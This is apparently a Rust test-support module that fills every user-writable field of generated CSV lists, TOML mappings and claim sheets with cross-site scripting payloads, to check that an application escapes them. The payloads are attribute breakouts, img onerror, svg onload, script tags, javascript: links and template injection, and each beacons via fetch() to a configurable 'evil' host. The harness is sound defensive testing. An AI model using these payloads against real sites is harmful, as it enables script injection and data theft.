//! A list and a claim sheet in which each text that anybody can write tries to run as a program.
//!
//! Every kind of event and every property of the vocabulary is a column: a property that is added is tried without being named here.

use std::fmt::Write as _;

use paradero_model::{EventKind, SubjectKind, ValueType, Vocabulary};
use serde_json::json;

/// Columns that hold parts of one value: kind, property, how the cell is read, and what stands before the payload in it.
const PARTS: [(&str, &str, &str, &str); 2] = [
    ("label", "indicators", "{kind}~{points}~{evidence}", "tattoo~3~"),
    ("person", "document", "{kind}:{number}", "passport:"),
];

/// Columns that may hold an address, tried with one that runs.
const ADDRESSES: [(&str, &str); 3] =
    [("statement", "url"), ("person", "photo"), ("place", "gazetteer")];

/// A text that somebody can write, by its name, with the mark that shows where it stands.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Field {
    pub(crate) name: String,
    pub(crate) mark: String,
    /// It holds an address that runs, and no piece of a page.
    pub(crate) is_address: bool,
}

/// All fields, and the machine that payloads tell.
pub(crate) struct Fields {
    evil: String,
    pub(crate) all: Vec<Field>,
}

/// What a cell of the list holds, beside its column.
struct Column {
    field: usize,
    kind: String,
    property: String,
    item: Option<&'static str>,
    before: &'static str,
}

/// A text as TOML writes it, which is what JSON writes.
fn toml(text: &str) -> String {
    json!(text).to_string()
}

impl Fields {
    pub(crate) fn new(evil: &str) -> Self {
        Self { evil: evil.to_owned(), all: Vec::new() }
    }

    /// A new field; its number.
    pub(crate) fn field(&mut self, name: &str, is_address: bool) -> usize {
        let at = self.all.len();
        self.all.push(Field { name: name.to_owned(), mark: format!("zq{at}z"), is_address });
        at
    }

    /// The program of a field: it says that it ran, in the page and to the machine. Without blanks and quotes, so that it
    /// stands in any attribute.
    fn program(&self, at: usize) -> String {
        let name = &self.all[at].name;
        format!("(self.ran=self.ran||[]).push(`{name}`),fetch(`http://{}/{name}`)", self.evil)
    }

    /// The ways in which a field tries to run, each alone.
    pub(crate) fn ways(&self, at: usize) -> Vec<(&'static str, String)> {
        let run = self.program(at);
        let [single, double] =
            ["'", "\""].map(|q| format!("{q} onfocus={q}{run}{q} autofocus tabindex=1 data-x={q}"));
        vec![
            ("single-quoted", single),
            ("double-quoted", double),
            ("raw-text", "</title></textarea></style></script></option></select>-->".to_owned()),
            ("picture", format!("<img src=x onerror=\"{run}\">")),
            ("svg", format!("<svg onload=\"{run}\"></svg>")),
            ("script", format!("<script>{run}</script>")),
            ("address", format!("<a href=\"javascript:{run}\">a</a>")),
            ("template", format!("${{{run}}} {{{{{run}}}}}")),
        ]
    }

    /// What stands in a field: its mark, and all ways one after the other.
    pub(crate) fn payload(&self, at: usize) -> String {
        let field = &self.all[at];
        if field.is_address {
            return format!("javascript:{}//{}", self.program(at), field.mark);
        }
        let ways: Vec<String> = self.ways(at).into_iter().map(|(_, way)| way).collect();
        format!(
            "{} {} {}",
            field.mark,
            ways[..2].join(" "),
            format_args!(">{}", ways[2..].join(""))
        )
    }

    /// A new field, and what stands in it.
    fn text(&mut self, name: &str) -> String {
        let at = self.field(name, false);
        self.payload(at)
    }

    /// A list whose rows each hold one field, and two rows that hold all; with its mapping.
    pub(crate) fn list(&mut self) -> (String, String) {
        let columns = self.columns();
        let header: Vec<String> =
            columns.iter().map(|column| self.all[column.field].name.clone()).collect();
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(&header).unwrap();
        for (at, column) in columns.iter().enumerate() {
            let cell = |(other, seen): (usize, &Column)| {
                let subject = seen.kind == column.kind && seen.kind == seen.property;
                let person = (seen.kind.as_str(), seen.property.as_str()) == ("person", "name");
                match () {
                    () if other == at => format!("{}{}", column.before, self.payload(column.field)),
                    () if subject && column.kind != "person" => format!("Cosa {at}"),
                    () if person => format!("Persona {} Prueba", letters(at)),
                    () => String::new(),
                }
            };
            writer.write_record(columns.iter().enumerate().map(cell)).unwrap();
        }
        for _ in 0..2 {
            let cell = |column: &Column| format!("{}{}", column.before, self.payload(column.field));
            writer.write_record(columns.iter().map(cell)).unwrap();
        }
        let list = String::from_utf8(writer.into_inner().unwrap()).unwrap();
        (list, self.mapping(&columns))
    }

    fn columns(&mut self) -> Vec<Column> {
        let vocabulary = Vocabulary::get();
        let mut columns = Vec::new();
        let mut column = |fields: &mut Self, kind: &EventKind, property: &str, extra: &str| {
            let name = format!("{}.{property}{extra}", kind.code);
            let part = PARTS
                .iter()
                .find(|part| extra == "+" && (part.0, part.1) == (kind.code.as_str(), property));
            let field = fields.field(&name, extra == "@");
            let (kind, property) = (kind.code.clone(), property.to_owned());
            let (item, before) = (part.map(|part| part.2), part.map_or("", |part| part.3));
            columns.push(Column { field, kind, property, item, before });
        };
        for kind in vocabulary.events() {
            let subject = subject_of(kind);
            if let Some(subject) = subject {
                // A column of its own says what the event is about; it is known by standing for its kind.
                column(self, kind, subject.code(), "");
            }
            let tried = ["arrest", "order", "statement", "batch"].contains(&kind.code.as_str());
            let common = vocabulary.common().iter().filter(|_| tried);
            let own = |code: &str| subject.is_some_and(|subject| subject.code() == code);
            let given = kind.properties.iter().chain(common).map(|property| property.code.as_str());
            let given: Vec<&str> =
                given.filter(|code| !own(code) && kind.code != "member").collect();
            given.iter().for_each(|code| column(self, kind, code, ""));
            let is_of = |(of, code): (&str, &str)| (of == kind.code).then(|| code.to_owned());
            for code in PARTS.iter().filter_map(|part| is_of((part.0, part.1))) {
                column(self, kind, &code, "+");
            }
            for code in ADDRESSES.into_iter().filter_map(is_of) {
                column(self, kind, &code, "@");
            }
        }
        columns
    }

    fn mapping(&self, columns: &[Column]) -> String {
        let mut mapping = String::from("[source]\ntitle = \"campos.csv\"\n");
        let mut begun = (String::new(), false);
        for column in columns {
            let name = &self.all[column.field].name;
            // What a property gives twice is read by an event of its own, of the same subject.
            let again = name.ends_with(['+', '@']);
            if again || begun != (column.kind.clone(), again) {
                begun = (column.kind.clone(), again);
                let subject = Vocabulary::get().event(&column.kind).and_then(subject_of);
                match (column.kind.as_str(), again) {
                    ("person", false) => mapping.push_str("[person]\n"),
                    _ => write!(mapping, "[[event]]\nkind = \"{}\"\n", column.kind).unwrap(),
                }
                if let Some(subject) = subject {
                    let code = subject.code();
                    let from = format!("{}.{code}", column.kind);
                    writeln!(mapping, "{code} = {{ column = {} }}", toml(&from)).unwrap();
                }
                if subject.is_some_and(|subject| subject.code() == column.property) {
                    continue;
                }
            }
            let item = column.item.map_or(String::new(), |item| format!(", item = {}", toml(item)));
            let column_name = toml(name);
            let key = key(&column.kind, &column.property);
            writeln!(mapping, "{key} = {{ column = {column_name}{item} }}").unwrap();
        }
        mapping
    }

    /// A list whose own names are payloads: what is said of it, its columns, and one that is not read. Name, text, mapping.
    pub(crate) fn named_list(&mut self) -> (String, String, String) {
        let file = self.field("file.name", false);
        // A path has no `/` in it.
        let name = format!("{} \"><img src=x onerror={}>.csv", self.all[file].mark, {
            format!("(self.ran=self.ran||[]).push(`{}`)", self.all[file].name)
        });
        let [read, unread, cell, why, event] =
            ["column.read", "column.unread", "cell.unread", "column.why", "event.constant"]
                .map(|name| self.text(name));
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(["Nombre", &read, &unread]).unwrap();
        for person in ["Elvira Prueba Lista", "Fabio Prueba Lista"] {
            writer.write_record([person, "nota", &cell]).unwrap();
        }
        let mut mapping = String::from("[source]\nheader_rows = 1\n");
        for key in
            ["title", "kind", "language", "said_by", "publisher", "url", "obtained", "consent"]
        {
            let at = self.field(&format!("source.{key}"), key == "url");
            writeln!(mapping, "{key} = {}", toml(&self.payload(at))).unwrap();
        }
        write!(
            mapping,
            "[person]\nname = {{ column = \"Nombre\" }}\n[[event]]\nkind = \"arrest\"\nnote = {{ column = {} }}\n\
             [[event]]\nkind = \"custody\"\nplace = {}\n[columns]\n{} = {}\n",
            toml(&read), toml(&event), toml(&unread), toml(&why)
        )
        .unwrap();
        (name, String::from_utf8(writer.into_inner().unwrap()).unwrap(), mapping)
    }

    /// A document and its claim sheet: one event of each kind, in which every text is a payload.
    pub(crate) fn sheet(&mut self) -> (String, String) {
        let (mut document, mut refs, mut events) =
            (String::new(), String::from("[ref]\n"), String::new());
        for kind in Vocabulary::get().events().iter().filter(|kind| kind.code != "source") {
            let code = &kind.code;
            let quote = self.text(&format!("sheet.{code}.quote"));
            writeln!(document, "{quote}\n").unwrap();
            write!(
                events,
                "[[event]]\nid = \"{code}\"\nkind = \"{code}\"\nquote = {}\n",
                toml(&quote)
            )
            .unwrap();
            if code == "person" {
                let relays = self.text("sheet.relays");
                writeln!(events, "relays = {}", toml(&relays)).unwrap();
            }
            let subject = kind.subjects[0];
            let handle = format!("h_{code}");
            let more = match subject {
                SubjectKind::Order => ", number = ",
                SubjectKind::Group => ", unit = \"persons\"",
                _ => "",
            };
            let more = if more.ends_with("= ") {
                format!("{more}{}", toml(&self.text(&format!("sheet.{code}.number"))))
            } else {
                more.to_owned()
            };
            let named = if subject == SubjectKind::Country {
                toml("XA")
            } else {
                toml(&self.text(&format!("sheet.{code}.subject")))
            };
            let subject = subject.code();
            writeln!(refs, "{handle} = {{ {subject} = {named}{more} }}").unwrap();
            writeln!(events, "{subject} = \"{handle}\"").unwrap();
            for property in
                Vocabulary::get().properties(kind).filter(|property| property.code != subject)
            {
                let name = format!("sheet.{code}.{}", property.code);
                if let Some(value) = self.value(&name, &property.value_type) {
                    writeln!(events, "{} = {value}", key(code, &property.code)).unwrap();
                }
            }
        }
        (document, format!("[source]\ntitle = \"hoja\"\n{refs}{events}"))
    }

    /// A value of a sheet with a payload in it; nothing where its type takes no text.
    fn value(&mut self, name: &str, of: &ValueType) -> Option<String> {
        let with =
            |fields: &mut Self, form: &str| Some(form.replace('@', &toml(&fields.text(name))));
        match of {
            ValueType::Text | ValueType::Name => with(self, "@"),
            ValueType::Ref(SubjectKind::Country) => None,
            ValueType::Ref(_) => with(self, "@"),
            ValueType::Date => with(self, "{ says = @, means = \"2025-03\" }"),
            ValueType::Count => with(self, "{ says = @, at_least = 2 }"),
            ValueType::Document => with(self, "{ kind = \"passport\", number = @ }"),
            ValueType::Indicator => with(self, "[{ kind = \"tattoo\", points = 3, evidence = @ }]"),
            ValueType::Band => with(self, "[{ from = 1, to = 9, name = @ }]"),
            _ => None,
        }
    }
}

/// What an event of a list is about, where that is not the person of the row.
fn subject_of(kind: &EventKind) -> Option<SubjectKind> {
    let row = kind.subjects.contains(&SubjectKind::Person) || kind.code == "statement";
    (!row).then(|| kind.subjects[0])
}

/// What a property is called in mappings and sheets, where `kind` is the kind of event.
fn key(kind: &str, property: &str) -> String {
    let own = if property == "kind" { format!("{kind}_kind") } else { property.to_owned() };
    toml(&own)
}

/// A number in letters: names have no digits.
fn letters(number: usize) -> String {
    let letter = |digit: usize| char::from(b'a' + u8::try_from(digit % 20).unwrap_or_default());
    format!("M{}{}o", letter(number / 20), letter(number))
}
